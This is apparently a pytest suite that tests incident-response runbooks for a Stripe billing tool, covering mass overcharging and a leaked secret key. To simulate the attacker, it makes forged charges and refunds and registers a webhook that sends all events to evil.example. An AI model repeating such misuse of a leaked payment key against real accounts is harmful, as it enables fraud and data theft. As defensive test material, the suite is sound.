"""Emergencies 2 and 3 of the guide: caused at the sandbox, its steps walked as printed, and the money looked at independently."""

from __future__ import annotations

import csv
import json
import re
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import stripe
from money_bench import Sandbox

from commanding import Commands, commanding, until_printed
from nself.gateway.live import STRIPE_VERSION

OLD, NEW = "sk_test_leaked_key", "sk_test_NEW_KEY"
SINCE = "2026-01-30 00:00:00"


@pytest.fixture(scope="module")
def project() -> Iterator[Commands]:
    with commanding() as made:
        made.nself(
            "env",
            "set",
            "STRIPE_MOCK_ENABLED=true",
            f"STRIPE_SECRET_KEY={OLD}",
            "MAIL_ENABLED=true",
            "MAIL_FROM=b@example.com",
        )
        made.nself("start")
        port = re.findall(r"BILLING_PORT=(\d+)", (made.root / ".env").read_text())[0]
        made.nself("billing", "webhook", "update-url", f"http://127.0.0.1:{port}/webhooks/stripe")
        yield made


class Patient(Sandbox):
    """Waits where it asked too often: this sandbox has Stripe's limits."""

    def get(self, path: str, **params: Any) -> Any:
        return patiently(lambda: super(Patient, self).get(path, **params))

    def post(self, path: str, **params: Any) -> Any:
        return patiently(lambda: super(Patient, self).post(path, **params))


def patiently(call: Callable[[], Any]) -> Any:
    for _ in range(100):
        try:
            return call()
        except stripe.RateLimitError:
            time.sleep(0.2)
    return call()


def at_stripe(project: Commands, key: str) -> Sandbox:
    port = re.findall(r"STRIPE_MOCK_PORT=(\d+)", (project.root / ".env").read_text())[0]
    made = Patient(f"http://127.0.0.1:{port}")
    made.client = stripe.StripeClient(key, stripe_version=STRIPE_VERSION, base_addresses={"api": made.url})
    return made


def customer(project: Commands, user: str) -> str:
    made = project.json("billing", "customer", "create", "--user", user, "--email", f"{user}@example.com", "--payment-method", "pm_card_visa")  # fmt: skip
    return str(made["id"])


def charge(sandbox: Sandbox, customer: str, amount: int) -> str:
    """As a program that went wrong charges, past us."""
    made = sandbox.post(
        "/v1/payment_intents", amount=amount, currency="usd", customer=customer, confirm=True, off_session=True,
        payment_method=sandbox.get(f"/v1/customers/{customer}")["invoice_settings"]["default_payment_method"],
    )  # fmt: skip
    return str(made["latest_charge"])


def invoiced(sandbox: Sandbox, customer: str, amount: int) -> str:
    """The charge of an invoice that was paid."""
    invoice = sandbox.post("/v1/invoices", customer=customer, currency="usd", auto_advance=False)["id"]
    sandbox.post("/v1/invoiceitems", customer=customer, invoice=invoice, amount=amount, currency="usd")
    sandbox.post(f"/v1/invoices/{invoice}/finalize", auto_advance=False)
    sandbox.post(f"/v1/invoices/{invoice}/pay")
    (payment,) = sandbox.get("/v1/invoice_payments", invoice=invoice)
    return str(sandbox.get(f"/v1/payment_intents/{payment['payment']['payment_intent']}")["latest_charge"])


def refunds(sandbox: Sandbox) -> dict[str, list[int]]:
    found: dict[str, list[int]] = {}
    for one in sandbox.get("/v1/refunds", limit=100):
        found.setdefault(one["charge"], []).append(one["amount"])
    return found


def mails(project: Commands) -> list[tuple[str, str]]:
    return sorted((one["type"], one["recipient"]) for one in project.json("billing", "email", "list"))


def test_mass_overcharging(project: Commands, tmp_path: Path) -> None:
    """Emergency 2."""
    sandbox = at_stripe(project, OLD)
    twice, also, much, right = (customer(project, user) for user in ("twice", "also", "much", "right"))
    for one in (twice, also, right):
        invoiced(sandbox, one, 1500)
    seconds = [charge(sandbox, one, 1500) for one in (twice, also)]
    over = invoiced(sandbox, much, 500)
    sandbox.edit("charge", over, webhook=False, amount=900, amount_captured=900)
    wanted = {seconds[0]: [1500], seconds[1]: [1500], over: [400]}
    project.nself("billing", "sync", "all", "--execute")

    charges, affected = tmp_path / "charges.csv", tmp_path / "affected-customers.csv"
    project.nself("stop", "billing")
    project.nself("env", "set", "BILLING_AUTO_PAYMENT=false")
    found = project.json("billing", "audit", "charges", "--since", SINCE, "--status", "suspicious")
    assert {one["charge"]: [one["amount"]] for one in found} == wanted
    assert {one["reason"] for one in found} == {"duplicate", "over_invoice"}
    project.nself("billing", "export", "charges", "--since", SINCE, "--format", "csv", "--output", str(charges))
    with charges.open(newline="") as file:
        assert len(list(csv.DictReader(file))) == 6
    assert charges.stat().st_mode & 0o777 == 0o600
    project.nself(
        "billing",
        "audit",
        "charges",
        "--since",
        SINCE,
        "--status",
        "suspicious",
        "--format",
        "csv",
        "--output",
        str(affected),
    )
    refund = ("billing", "refund", "batch", "--input", str(affected), "--reason", "billing_error", "--notify")
    notify = ("billing", "notify-customers", "--template", "billing_error_apology", "--customers", str(affected))
    assert project.json(*refund)["refunded"] == 3
    told = project.json(*notify)
    assert (told["queued"], told["executed"]) == (3, True)
    incident = project.json(
        "billing", "incident", "create", "--type", "overcharge", "--severity", "critical", "--description",
        "Mass overcharging on 2026-01-30",
    )["id"]  # fmt: skip

    # Again, by somebody who does not know whether it was done.
    assert project.json(*refund)["refunded_before"] == 3
    project.nself("env", "set", "BILLING_AUTO_PAYMENT=true")
    project.nself("start", "billing")
    assert project.json("billing", "audit", "charges", "--since", SINCE, "--status", "suspicious") == []

    assert refunds(sandbox) == wanted
    assert (
        refunds(sandbox).keys().isdisjoint(one["id"] for one in sandbox.get("/v1/charges", customer=right, limit=100))
    )
    people = ["also@example.com", "much@example.com", "twice@example.com"]
    assert mails(project) == [(kind, one) for kind in ("billing_error_apology", "refund") for one in people]
    timeline = project.json("billing", "incident", "show", incident)["timeline"]
    done = [one["detail"] for one in timeline if one["what"] == "command"]
    for command in ("refund batch", "notify-customers", "export charges", "audit charges", "incident create"):
        assert any(one.startswith(f"nself billing {command} ") for one in done), command
    assert {one["what"] for one in timeline} == {"command", "mails", "refunds", "opened"}
    assert "unbroken" in project.nself("billing", "audit", "log", "--verify")


@pytest.mark.long
def test_leaked_keys(project: Commands, tmp_path: Path) -> None:
    """Emergency 3. A stranger has our key; we do not know since when."""
    sandbox, ours = at_stripe(project, OLD), customer(project, "victim")
    began = max(one["created"] for one in sandbox.get("/v1/events", limit=100)) + 1
    sandbox.admin("clock", advance=5)
    paid = project.json("billing", "payment", "create", "--amount", "2000", "--customer", ours)
    theirs = sandbox.post("/v1/customers", email="mule@example.com", metadata={"nself_request": "forged"})["id"]
    strangers = {
        theirs,
        charge(sandbox, ours, 7700),
        sandbox.post("/v1/refunds", charge=paid["charge"], amount=300, metadata={"nself_reason": "forged"})["id"],
        sandbox.post("/v1/webhook_endpoints", url="https://evil.example/hook", enabled_events=["*"], metadata={"nself": "webhooks"})["id"],
    }  # fmt: skip
    project.nself(
        "billing", "audit", "transactions", "--since", "EXPOSURE_TIME", "--output", str(tmp_path / "audit.csv"), code=2
    )

    sandbox.admin("keys/revoke", key=OLD)
    project.nself("env", "set", f"STRIPE_SECRET_KEY={NEW}")
    project.nself("env", "set", "STRIPE_PUBLISHABLE_KEY=pk_test_NEW_KEY")
    file = tmp_path / "audit.csv"
    project.nself("billing", "webhook", "rotate-secret")
    since = datetime.fromtimestamp(began, UTC).isoformat()
    audit = ("billing", "audit", "transactions", "--since", since, "--output", str(file), "--format", "json")
    assert "4 of " in project.nself(*audit)
    project.nself("billing", "customers", "audit", "--check-fraud")
    project.nself("env", "set", "STRIPE_ENABLE_IP_WHITELIST=true")
    project.nself("restart", "billing")

    rows: list[dict[str, Any]] = json.loads(file.read_text())
    assert {one["id"] for one in rows if one["cause"] == "unknown"} == strangers
    assert [one["by"].partition(" by ")[0] for one in rows if one["id"] == paid["charge"]] == ["billing payment create"]
    with pytest.raises(stripe.AuthenticationError):
        sandbox.get("/v1/customers", limit=1)
    after = project.json("billing", "payment", "create", "--amount", "2100", "--customer", ours)
    fresh = at_stripe(project, NEW)
    assert sorted(one["amount_received"] for one in fresh.payments(ours)) == [2000, 2100, 7700]
    assert after["status"] == "succeeded"
    log = project.nself("billing", "audit", "log", "--since", "1h")
    assert OLD not in log
    assert NEW not in log
    assert "STRIPE_SECRET_KEY=***" in log
    until_printed(project, ("billing", "audit", "log", "--verify"), "unbroken")
